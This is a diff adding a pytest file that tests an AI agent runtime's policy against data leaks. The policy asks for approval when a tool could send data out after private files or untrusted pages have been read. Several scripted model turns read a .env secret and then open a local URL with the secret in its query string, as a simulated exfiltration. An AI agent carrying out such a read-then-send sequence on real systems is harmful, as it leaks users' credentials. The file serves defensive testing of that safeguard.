@@ -1,0 +1,234 @@
+"""Private data, text of strangers and a way out, all in one conversation: then a call asks."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import shlex
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent.conversation.conversation import Conversation
+from agent.conversation.messages import User
+from agent.runtime.runtime import Runtime
+from agent.turn.loop import Turn
+from agent.turn.options import TurnOptions
+from tests.support.hosts import server_command
+from tests.support.invariants import check
+from tests.support.runtimes import MakeRuntime
+from tests.support.turns import FINAL, read_events, write_script
+from tools.builtin.browser.settings import BrowserSettings
+from tools.config.entry import read_entry
+from tools.config.servers import ConfigError, ServerConfig
+from tools.policy.approvals import Policy
+from tools.policy.taint import Exposure, named_hosts
+from tools.types import UNKNOWN_LABELS, Answer, Tool
+
+SECRET = "hunter2"
+SENDER = Tool("mail", "send", "", {}, labels=UNKNOWN_LABELS | {"sends"})
+NOTES = Tool("notes", "read", "", {})
+CLOCK = Tool("clock", "now", "", {}, labels=frozenset())
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A site that writes down what is asked of it: its address and the requests' paths."""
+    paths: list[str] = []
+
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            paths.append(self.path)
+            body = b'<html><body><p>Hello there.</p><a href="/next?n=1">more</a></body></html>'
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as serving:
+        thread = threading.Thread(target=serving.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{serving.server_address[1]}", paths
+        serving.shutdown()
+        thread.join()
+
+
+def call(recipient: str, **arguments: Any) -> dict[str, str]:
+    return {
+        "markup": f"<|channel|>commentary to={recipient} <|constrain|>json<|message|>"
+        f"{json.dumps(arguments)}<|call|>"
+    }
+
+
+READ = call("functions.files__read", path=".env")
+
+
+@pytest.fixture
+def settings(tmp_path: Path) -> dict[str, Any]:
+    (tmp_path / ".env").write_text(f"KEY={SECRET}\n")
+    return {
+        "tools": "all,browser", "root": tmp_path, "approvals_file": tmp_path / "approvals.json",
+        "browser": BrowserSettings(allow_private=("127.0.0.0/8",)),
+        "work_folder": tmp_path / "work",
+    }  # fmt: skip
+
+
+async def run(
+    runtime: Runtime, conversation: Conversation, prompt: str = "go", **options: Any
+) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
+    """Run a turn; its calls, and the questions that it asked."""
+    turn = Turn(runtime, conversation, [User(prompt)], TurnOptions(**options)).start()
+    events = await read_events(turn)
+    calls = [item for item in check(events)["output"] if item["type"] == "mcp_call"]
+    return calls, [event for event in events if event["type"] == "agent.approval.requested"]
+
+
+async def test_taint_read_then_send_asks_or_is_refused(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]],
+) -> None:  # fmt: skip
+    url, paths = listener
+    leak = call("browser.open", id=f"{url}/?leak={SECRET}")
+    lines = write_script(tmp_path / "s.jsonl", READ, leak, {"markup": FINAL})
+    runtime = await make_runtime(lines, **settings)
+    (read, refused), (question,) = await run(runtime, Conversation("c"))
+    assert SECRET in read["output"] and not paths
+    assert "files.read" in question["reason"] and "127.0.0.1" in question["reason"]
+    message = refused["error"]["message"]
+    assert "files.read" in message and "--approve browser.open allows it" in message
+
+    async def approve(tool: Tool, arguments: str) -> Answer:
+        return Answer("session")
+
+    allowed, (question,) = await run(runtime, Conversation("d"), approver=approve)
+    assert question["rules"] == ["open 127.0.0.1"]
+    assert allowed[1]["error"] is None and paths == [f"/?leak={SECRET}"]
+    assert not (await run(runtime, Conversation("e")))[1], "the rule counts for this process"
+
+
+async def test_taint_lasts_over_turns_and_processes(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]],
+) -> None:  # fmt: skip
+    url, paths = listener
+    conversation = Conversation("c")
+    first = write_script(tmp_path / "a.jsonl", READ, {"markup": FINAL})
+    await run(await make_runtime(first, **settings), conversation)
+    leak = call("browser.open", id=f"{url}/?leak={SECRET}")
+    second = write_script(tmp_path / "b.jsonl", leak, {"markup": FINAL})
+    other_tools = {**settings, "tools": "browser"}
+    (refused,), questions = await run(await make_runtime(second, **other_tools), conversation)
+    assert refused["error"] and len(questions) == 1 and not paths
+
+
+async def test_taint_named_and_linked_addresses_go_unasked(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]],
+) -> None:  # fmt: skip
+    url, paths = listener
+    lines = write_script(
+        tmp_path / "s.jsonl",
+        call("browser.open", id=url),
+        READ,
+        call("browser.open", id=0, cursor=0),
+        call("browser.open", id=f"{url}/next?n=1#part"),
+        call("browser.find", pattern="Hello"),
+        call("browser.open", id=f"{url}/?leak={SECRET}"),
+        {"markup": FINAL},
+    )
+    runtime = await make_runtime(lines, **settings)
+    calls, questions = await run(runtime, Conversation("c"))
+    assert [bool(item["error"]) for item in calls] == [False] * 5 + [True]
+    assert len(questions) == 1, "only the address that the model made up, though its host is known"
+    assert paths == ["/", "/next?n=1", "/next?n=1"]
+    named, questions = await run(runtime, Conversation("d"), f"Read .env, then look at {url}/x")
+    assert not any(item["error"] for item in named) and not questions, "the person named the host"
+
+
+@pytest.mark.parametrize("steps", [1, 2])
+async def test_taint_one_kind_alone_never_asks(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]], steps: int,
+) -> None:  # fmt: skip
+    url, _ = listener
+    one = [READ, call("functions.files__list", path="."), READ]
+    if steps == 2:
+        one = [call("browser.open", id=f"{url}/{n}") for n in range(3)]
+        one.insert(1, call("functions.nothing__here"))
+    lines = write_script(tmp_path / "s.jsonl", *one, {"markup": FINAL})
+    calls, questions = await run(await make_runtime(lines, **settings), Conversation("c"))
+    assert len(calls) == len(one) and not questions
+
+
+async def test_taint_approve_option_allows_it(
+    make_runtime: MakeRuntime, tmp_path: Path, settings: dict[str, Any],
+    listener: tuple[str, list[str]],
+) -> None:  # fmt: skip
+    url, paths = listener
+    leak = call("browser.open", id=f"{url}/?leak={SECRET}")
+    lines = write_script(tmp_path / "s.jsonl", READ, leak, {"markup": FINAL})
+    runtime = await make_runtime(lines, approve="browser", **settings)
+    assert not (await run(runtime, Conversation("c")))[1] and len(paths) == 1
+
+
+async def test_taint_server_annotations_label_its_tools(
+    make_runtime: MakeRuntime, tmp_path: Path
+) -> None:
+    """A real server, named on the command line, so that its calls run unasked but for this."""
+    (tmp_path / "notes.txt").write_text(SECRET)
+    send = call("functions.mailer__send", text=SECRET)
+    read, count = call("functions.files__read", path="notes.txt"), call("functions.mailer__count")
+    server = f"mailer={shlex.join(server_command('mailer'))}"
+    for replies, refused in (([count, send, send], None), ([count, read, send], "files.read")):
+        lines = write_script(tmp_path / "s.jsonl", *replies, {"markup": FINAL})
+        runtime = await make_runtime(lines, tools="all", mcp=[server], root=tmp_path)
+        calls, questions = await run(runtime, Conversation("c"))
+        assert [bool(item["error"]) for item in calls] == [False, False, refused is not None]
+        assert all(refused and refused in question["reason"] for question in questions)
+
+
+def test_taint_three_together_ask() -> None:
+    """The rule itself, for any tool that sends."""
+    trusted = ServerConfig("mail", command="x", trusted=True)
+
+    def decide(*results: tuple[Tool, bool], config: ServerConfig = trusted) -> str:
+        exposure = Exposure.of(results, ())
+        return Policy().decide(SENDER, config, {}, exposure=exposure).decision
+
+    local = Tool("notes", "read", "", {}, labels=frozenset(("private",)))
+    page = Tool("browser", "open", "", {}, labels=frozenset(("untrusted", "sends")))
+    assert decide() == decide((CLOCK, False)) == decide((local, False)) == "allow"
+    assert decide((page, False)) == decide((SENDER, False)) == "allow", (
+        "its own results are no news"
+    )
+    assert decide((NOTES, True)) == "allow", "the operator marked it public"
+    assert decide((NOTES, False)) == decide((local, False), (page, False)) == "ask"
+    quiet = Tool("mail", "send", "", {})
+    exposure = Exposure.of([(NOTES, False)], ())
+    assert Policy().decide(quiet, trusted, {}, exposure=exposure).decision == "allow"
+    by_name = Policy(["mail.send"]).decide(SENDER, trusted, {}, exposure=exposure)
+    assert by_name.decision == "allow"
+    asked = Policy().decide(SENDER, ServerConfig("mail", command="x"), {}, exposure=exposure)
+    assert asked.decision == "ask" and "notes.read" in asked.reason
+
+
+def test_public_mark_is_the_operators() -> None:
+    entry = read_entry("web", {"command": "x", "public": True}, {})
+    assert entry.public and not read_entry("web", {"command": "x"}, {}).public
+    with pytest.raises(ConfigError, match="public must be true or false"):
+        read_entry("web", {"command": "x", "public": "yes"}, {})
+
+
+def test_named_hosts_of_addresses_and_domains() -> None:
+    text = (
+        "Look at https://Example.org:8080/a?b, (docs.python.org/3) and http://[::1]/, not main.py."
+    )
+    assert named_hosts(text) == {"example.org", "docs.python.org", "::1"}
+    assert named_hosts("me@example.org wrote e.g. http://[broken") == set()
